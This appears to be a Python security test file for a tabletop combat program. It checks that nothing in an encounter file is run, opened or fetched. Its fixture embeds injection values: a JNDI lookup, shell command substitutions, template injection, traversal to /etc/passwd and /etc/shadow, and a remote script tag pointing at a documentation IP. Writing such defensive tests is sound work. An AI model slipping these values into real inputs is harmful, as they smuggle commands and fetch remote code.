"""What SECURITY.md says is so: nothing in a file is run, opened or fetched, and the limits hold."""

import json
import re
import subprocess
import sys
from pathlib import Path

import opened as hc
from repository import ROOT

from hero_combat.dice.source import MOST_DICE, MOST_SIDES
from hero_combat.file.authored import MAX_NAME
from hero_combat.file.document import MAX_BYTES
from hero_combat.file.scan import MAX_DIGITS, MAX_NESTING
from hero_combat.file.templates import MAX_CHAIN
from hero_combat.npc.programs import MOST_ORDERS
from hero_combat.storage.growing import LONGEST
from hero_combat.systems.champions.imports.markup import DEEPEST
from hero_combat.web.limits import ALL, AT_ONCE, EACH, RATE
from hero_combat.web.requests import LARGEST
from hero_combat.web.server import PATIENCE

# From somebody who wants more than a fight: paths, addresses, commands wherever words may stand.
HOSTILE = r"""system = "champions"
title = "{{ 7 * 7 }} ${jndi:ldap://198.51.100.7/a} `touch run-by-a-shell`"
[combatants.ada]
name = "file:///etc/passwd"
side = "$(touch run-by-a-shell)"
player = true
like = "somebody"
[combatants.ada.attacks.bolt]
name = "../../../etc/shadow"
dice = "8d6"
vs = "ed"
[combatants.bob]
like = "somebody"
name = "<script src=http://198.51.100.7/x.js></script>"
side = "https://198.51.100.7/"
doctrine = "getaway"
[templates.somebody]
dex = 12
con = 15
spd = 4
ocv = 5
dcv = 5
pd = 5
ed = 5
rec = 5
end = 30
body = 10
stun = 30
[doctrines.getaway]
do = ["punch at nearest", "unarmed"]
[objects.wall]
name = "\\\\198.51.100.7\\share"
def = 4
body = 3
"""

# Each line is a command; the interpreter tells of all that it opens, starts and connects with.
WATCHED = """
import json, os, sys

seen = []

def watch(event, about):
    if event == "open" and isinstance(about[0], (str, bytes)):
        wants = (about[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
        seen.append(["write" if wants else "read", os.fsdecode(about[0])])
    elif event.split(".")[0] in ("socket", "subprocess", "urllib", "http", "ftplib", "ctypes"):
        seen.append([event, repr(about)])
    elif event in ("os.system", "os.exec", "os.posix_spawn", "os.fork", "os.forkpty"):
        seen.append([event, repr(about)])
    elif event in ("os.remove", "os.rename", "os.mkdir", "os.link", "os.symlink", "os.truncate"):
        seen.append([event, repr(about)])

from hero_combat.cli.start import main

sys.argv = ["hero-combat", *json.loads(sys.argv[1])]
sys.addaudithook(watch)
try:
    main()
except SystemExit as end:
    seen.append(["exit", end.code])
finally:
    told, seen = seen, []  # the next line is the watch's own
    with open("seen.json", "w", encoding="utf-8") as file:
        json.dump(told, file)
"""

COMMANDS = (
    ("check", "hostile.toml"),
    ("show", "hostile.toml"),
    ("show", "--json", "hostile.toml"),
    ("step", "hostile.toml"),
    ("step", "-i", "hostile.toml"),
    ("resolve", "ada", "bob", "--with", "bolt", "--explain", "-i", "hostile.toml"),
    ("odds", "ada", "bob", "--with", "bolt", "hostile.toml"),
    ("options", "--who", "ada", "hostile.toml"),
    ("npc", "--all", "-i", "hostile.toml"),
    ("log", "--markdown", "hostile.toml"),
    ("verify", "hostile.toml"),
    ("undo", "-i", "hostile.toml"),
    ("show", "--html", "board.html", "hostile.toml"),
    ("log", "--html", "replay.html", "hostile.toml"),
)
WRITTEN = {"hostile.toml", "board.html", "replay.html"}
"""What these commands are told to write."""


def watched(folder: Path, words: tuple[str, ...]) -> list[list[str | int]]:
    """What the interpreter tells of a command: kind and subject of each."""
    subprocess.run(
        (sys.executable, "-c", WATCHED, json.dumps(words)),
        cwd=folder,
        env={
            "PYTHONPATH": str(ROOT),
            "NO_COLOR": "1",
            "TERM": "dumb",
            "PYTHONDONTWRITEBYTECODE": "1",
        },
        capture_output=True,
        check=False,
    )
    seen: list[list[str | int]] = json.loads((folder / "seen.json").read_text("utf-8"))
    return seen


def test_nothing_in_a_file_is_run_opened_or_fetched(tmp_path: Path) -> None:
    (tmp_path / "hostile.toml").write_text(HOSTILE, encoding="utf-8")
    ours = tuple(str(Path(place).resolve()) for place in (ROOT, sys.prefix, sys.base_prefix))
    for words in COMMANDS:
        seen = watched(tmp_path, words)
        told = " ".join(words)
        assert seen[-1][0] == "exit", told
        assert seen[-1][1] in (None, 0, 6, 8), told
        for kind, subject in seen[:-1]:
            about = f"{told}: {kind} {subject}"
            if kind in ("read", "write"):
                path = Path(tmp_path, str(subject)).resolve()
                named = tmp_path in (path, path.parent)  # a folder is flushed with what it holds
                assert named or (kind == "read" and str(path).startswith(ours)), about
            else:
                assert kind in ("os.rename", "os.remove"), about
                assert any(file in str(subject) for file in WRITTEN), about
    assert {path.name for path in tmp_path.iterdir()} == {*WRITTEN, "seen.json"}


def test_the_watch_sees_what_it_is_there_for(tmp_path: Path) -> None:
    """Git's part in a merge is the one program that is started, and the watch tells of it."""
    for name in ("base", "ours", "theirs"):
        (tmp_path / name).write_text(f"no encounter: {name}\n", encoding="utf-8")
    seen = watched(tmp_path, ("merge-driver", "base", "ours", "theirs"))
    assert any(kind == "subprocess.Popen" and "merge-file" in str(what) for kind, what in seen)


def test_the_limits_on_the_page_are_those_of_the_program() -> None:
    page = (ROOT / "SECURITY.md").read_text("utf-8")
    rows = dict(re.findall(r"^\| ([a-z][^|]*) \| (\d+) \|$", page, re.MULTILINE))
    assert {name: int(value) for name, value in rows.items()} == {
        "bytes of a file": MAX_BYTES,
        "brackets within brackets": MAX_NESTING,
        "digits of a number": MAX_DIGITS,
        "letters of a name": MAX_NAME,
        "templates in a chain": MAX_CHAIN,
        "dice of a roll": MOST_DICE,
        "sides of a die": MOST_SIDES,
        "elements within elements, HERO Designer": DEEPEST,
        "orders that `npc` plays at a time": MOST_ORDERS,
        "bytes of a line of kept fights": LONGEST,
        "bytes of a form, `serve`": LARGEST,
        "sayings of a link per second, `serve`": RATE,
        "sayings of a link at once, `serve`": AT_ONCE,
        "connections from one address, `serve`": EACH,
        "connections in all, `serve`": ALL,
        "seconds for a request, `serve`": PATIENCE,
    }


def test_whoever_has_the_file_knows_the_next_dice(tmp_path: Path) -> None:
    (tmp_path / "hostile.toml").write_text(HOSTILE, encoding="utf-8")
    fight = hc.load(tmp_path / "hostile.toml")
    fight.play("begin ada,bob --seed 4711")
    fight.play("step")
    text = fight.text
    throws = {str(hc.loads(text).play("resolve ada bob --with bolt").rolls) for _ in range(3)}
    assert len(throws) == 1
    fight.play("reseed 4712")
    assert str(fight.play("resolve ada bob --with bolt").rolls) not in throws
